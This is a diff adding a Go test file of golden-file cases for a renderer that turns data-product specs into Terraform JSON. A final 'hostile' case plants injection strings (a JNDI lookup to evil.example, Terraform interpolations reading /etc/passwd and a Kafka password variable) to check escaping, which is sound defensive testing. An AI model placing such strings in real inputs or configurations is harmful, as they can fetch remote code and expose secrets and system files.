@@ -1,0 +1,209 @@
+package render
+
+import (
+	"github.com/meshplane/meshplane/server/spec"
+)
+
+// testCase is a product rendered to a golden file under
+// terraform/testdata/<name>/main.tf.json.golden.
+type testCase struct {
+	name string
+	in   Input
+	// hostile cases carry strings no validated product has; the others must
+	// pass spec validation so the golden files show real products.
+	hostile bool
+}
+
+func sandboxEnv() Environment {
+	return Environment{
+		Name:              "sandbox",
+		KafkaBootstrap:    []string{"127.0.0.1:9092"},
+		ConnectURL:        "http://127.0.0.1:8083",
+		ReplicationFactor: 1,
+	}
+}
+
+func productionEnv() Environment {
+	return Environment{
+		Name:                  "production",
+		KafkaBootstrap:        []string{"b-1.kafka.internal:9096", "b-2.kafka.internal:9096", "b-3.kafka.internal:9096"},
+		KafkaSASLMechanism:    SASLScramSHA512,
+		KafkaUsername:         "meshplane",
+		KafkaTLS:              true,
+		ConnectURL:            "https://connect.internal:8083",
+		ConnectUsername:       "meshplane",
+		ReplicationFactor:     3,
+		ConnectKafkaBootstrap: []string{"kafka.internal:9093"},
+		Backend:               Backend{Kind: BackendPostgres},
+	}
+}
+
+func normalized(domain, product string, p spec.Product) spec.Product {
+	p.Normalize(domain, product)
+	return p
+}
+
+func cases() []testCase {
+	return []testCase{
+		{name: "postgres-bigquery", in: Input{
+			Domain: "sales", Product: "orders", Env: sandboxEnv(),
+			Spec: normalized("sales", "orders", spec.Product{
+				Description: "Orders as placed in the web shop.",
+				Owner:       "sales-team@example.com",
+				Source: spec.Source{
+					Kind: spec.SourcePostgres, Host: "orders-db.internal", Port: 5432, Database: "shop",
+					Tables: []string{"public.orders"}, Username: "debezium", SecretRef: "env:ORDERS_DB_PASSWORD",
+				},
+				Ports: []spec.OutputPort{{
+					Name: "orders", Partitions: 6, CleanupPolicy: spec.CleanupDelete,
+					Fields: []spec.Field{
+						{Name: "id", Type: spec.TypeInt64, Classification: spec.ClassNone},
+						{Name: "customer_id", Type: spec.TypeInt64, Classification: spec.ClassInternal},
+						{Name: "amount", Type: spec.TypeDecimal, Classification: spec.ClassInternal},
+						{Name: "placed_at", Type: spec.TypeTimestamp, Classification: spec.ClassNone},
+					},
+				}},
+				Sinks: []spec.Sink{{
+					Name:     "warehouse",
+					BigQuery: &spec.BigQuerySink{Project: "acme-analytics", Dataset: "sales_orders", CredentialsRef: "vault:gcp/bigquery:key"},
+				}},
+			}),
+		}},
+		{name: "mysql-s3-jdbc", in: Input{
+			Domain: "inventory", Product: "stock", Env: productionEnv(),
+			Spec: normalized("inventory", "stock", spec.Product{
+				Description: "Stock levels per warehouse.",
+				Owner:       "inventory-team@example.com",
+				Source: spec.Source{
+					Kind: spec.SourceMySQL, Host: "stock-db.internal", Port: 3306, Database: "warehouse",
+					Tables: []string{"warehouse.stock_levels"}, Username: "debezium", SecretRef: "file:/etc/kafka-connect/secrets/stock.properties:password",
+				},
+				Ports: []spec.OutputPort{{
+					Name: "levels", MajorVersion: 2, Partitions: 3, CleanupPolicy: spec.CleanupCompact,
+					Fields: []spec.Field{
+						{Name: "sku", Type: spec.TypeString, Classification: spec.ClassNone},
+						{Name: "warehouse_id", Type: spec.TypeInt32, Classification: spec.ClassNone},
+						{Name: "quantity", Type: spec.TypeInt64, Classification: spec.ClassNone},
+					},
+				}},
+				Sinks: []spec.Sink{
+					{Name: "lake", S3: &spec.S3Sink{
+						Bucket: "acme-lake", Region: "eu-west-1", Prefix: "cdc/inventory/", Format: "parquet",
+						CredentialsRef: "vault:aws/lake:key",
+					}},
+					{Name: "reporting", JDBC: &spec.JDBCSink{
+						URL: "jdbc:postgresql://reporting-db.internal:5432/reporting", Username: "loader",
+						SecretRef: "vault:db/reporting:password", InsertMode: "upsert",
+						PrimaryKeyFields: []string{"sku", "warehouse_id"}, DeleteEnabled: true,
+					}},
+				},
+			}),
+		}},
+		{name: "multi-port", in: Input{
+			Domain: "crm", Product: "customers", Env: sandboxEnv(),
+			Spec: normalized("crm", "customers", spec.Product{
+				Description: "Customers, their addresses and orders.",
+				Owner:       "crm-team@example.com",
+				Source: spec.Source{
+					Kind: spec.SourcePostgres, Host: "10.0.4.12", Port: 5433, Database: "crm",
+					Tables: []string{"public.customers", "public.addresses", "sales.orders"}, Username: "cdc", SecretRef: "env:CRM_DB_PASSWORD",
+				},
+				Ports: []spec.OutputPort{
+					{Name: "customers", Table: "public.customers", Partitions: 12, CleanupPolicy: spec.CleanupCompact,
+						Fields: []spec.Field{{Name: "id", Type: spec.TypeInt64, Classification: spec.ClassNone}}},
+					{Name: "addresses", Table: "public.addresses", Partitions: 6, RetentionMs: -1, CleanupPolicy: spec.CleanupCompactDelete,
+						Fields: []spec.Field{{Name: "id", Type: spec.TypeInt64, Classification: spec.ClassNone}}},
+					{Name: "orders", Table: "sales.orders", MajorVersion: 3, RetentionMs: 30 * 24 * 3600 * 1000,
+						Fields: []spec.Field{{Name: "id", Type: spec.TypeInt64, Classification: spec.ClassNone}}},
+				},
+				Sinks: []spec.Sink{
+					{Name: "search", Ports: []string{"customers", "addresses"}, Elasticsearch: &spec.ElasticsearchSink{
+						URL: "https://search.internal:9200", Username: "indexer", SecretRef: "env:SEARCH_PASSWORD", IndexPrefix: "crm",
+					}},
+					{Name: "archive", Ports: []string{"orders"}, S3: &spec.S3Sink{
+						Bucket: "acme-archive", Region: "us-east-1", Format: "json", FlushSize: 5000, RotateIntervalMs: 3_600_000,
+					}},
+				},
+			}),
+		}},
+		{name: "pii", in: Input{
+			Domain: "identity", Product: "people", Env: sandboxEnv(),
+			Spec: normalized("identity", "people", spec.Product{
+				Description: "People known to the identity service.",
+				Owner:       "identity-team@example.com",
+				Source: spec.Source{
+					Kind: spec.SourcePostgres, Host: "people-db.internal", Port: 5432, Database: "identity",
+					Tables: []string{"public.people"}, Username: "debezium", SecretRef: "vault:db/identity:password",
+				},
+				Ports: []spec.OutputPort{{
+					Name: "people", Partitions: 3,
+					Fields: []spec.Field{
+						{Name: "id", Type: spec.TypeInt64, Classification: spec.ClassNone},
+						{Name: "email", Type: spec.TypeString, Classification: spec.ClassPII, Tags: []string{"email"}},
+						{Name: "phone", Type: spec.TypeString, Nullable: true, Classification: spec.ClassPII},
+						{Name: "postcode", Type: spec.TypeString, Nullable: true, Classification: spec.ClassInternal},
+						{Name: "national_id", Type: spec.TypeString, Nullable: true, Classification: spec.ClassSensitive},
+					},
+				}},
+				Sinks: []spec.Sink{{
+					Name: "directory",
+					JDBC: &spec.JDBCSink{URL: "jdbc:mysql://directory-db.internal:3306/directory", Username: "writer",
+						SecretRef: "env:DIRECTORY_DB_PASSWORD", InsertMode: "upsert", DeleteEnabled: true},
+				}},
+			}),
+			ConnectorConfig: map[string]map[string]string{
+				"identity.people.source": {
+					"column.mask.hash.SHA-256.with.salt.CzQMA0cB5K": "public\\.people\\.email",
+					"column.mask.with.6.chars":                      "public\\.people\\.phone",
+					"column.truncate.to.3.chars":                    "public\\.people\\.postcode",
+					"column.exclude.list":                           "public\\.people\\.national_id",
+				},
+			},
+		}},
+		{name: "hostile", hostile: true, in: hostileInput()},
+	}
+}
+
+// Strings an attacker or a careless user might get into a product. Terraform
+// would interpolate ${…} and run %{…} directives if they reached it unescaped.
+const (
+	jndi      = "${jndi:ldap://evil.example/a}"
+	directive = "%{ if true }x%{ endif }"
+)
+
+func hostileInput() Input {
+	env := sandboxEnv()
+	env.KafkaSASLMechanism = SASLPlain
+	env.KafkaUsername = "svc\"${var.kafka_password}"
+	env.ConnectUsername = "${file(\"/etc/passwd\")}"
+	env.Backend.Path = "state/${path.module}.tfstate"
+	return Input{
+		Domain: "risky", Product: "input", Env: env,
+		Spec: normalized("risky", "input", spec.Product{
+			Description: "ignore " + jndi + " \"quoted\"\nnew line " + directive,
+			Owner:       "x@example.com",
+			Labels:      map[string]string{"a": "${b}"},
+			Source: spec.Source{
+				Kind: spec.SourcePostgres, Host: "db" + jndi + "%{x}", Port: 5432, Database: "d\"b" + jndi,
+				Tables: []string{"public.t$x"}, Username: "u\n" + jndi + directive, SecretRef: "env:DB_PASSWORD",
+			},
+			Ports: []spec.OutputPort{{
+				Name: "events", Description: jndi, Partitions: 1,
+				Fields: []spec.Field{{Name: "id", Type: spec.TypeInt64, Description: directive, Classification: spec.ClassNone}},
+			}},
+			Sinks: []spec.Sink{{
+				Name: "docs",
+				Elasticsearch: &spec.ElasticsearchSink{
+					URL: "https://es.example/" + jndi, Username: "u%{x}", SecretRef: "env:ES_PASSWORD",
+				},
+			}},
+		}),
+		ConnectorConfig: map[string]map[string]string{
+			"risky.input.source": {
+				"column.mask.hash.SHA-256.with.salt." + jndi: "v\"" + jndi + "\n" + directive,
+				"already.escaped":    "$${x} %%{y} $$ %% \\${z}",
+				"provider.reference": "${vault:secret/salt:value}",
+			},
+		},
+	}
+}
